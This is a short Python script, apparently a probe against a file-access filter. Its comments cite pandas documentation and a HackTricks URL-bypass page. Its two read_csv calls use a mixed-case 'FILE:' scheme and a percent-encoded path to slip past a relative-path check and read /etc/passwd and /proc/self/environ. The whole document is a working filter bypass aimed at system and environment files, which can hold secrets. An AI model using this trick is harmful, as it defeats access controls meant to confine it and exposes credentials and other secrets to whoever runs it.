# source: pandas read_csv docs ("Valid URL schemes include http, ftp, s3, gs, and file", https://pandas.pydata.org/pandas-docs/version/1.5/reference/api/pandas.read_csv.html)
#         + URL-filter bypass by scheme case / percent-encoding (RFC 3986 schemes are case-insensitive; HackTricks
#           "URL Format Bypass" https://book.hacktricks.wiki/en/pentesting-web/ssrf-server-side-request-forgery/url-format-bypass.html)
# family: literal path the check reads as relative but pandas treats as a URL (urllib lowercases the scheme and unquotes the path)
# goal: read /etc/passwd (and /proc/self/environ) with accepted literal read_csv calls
import pandas as pd

print(pd.read_csv("FILE:/etc/passwd", sep="|", header=None).to_string())
print(pd.read_csv("File:%2Fproc%2Fself%2Fenviron", sep="|", header=None, engine="python").to_string()[:300])
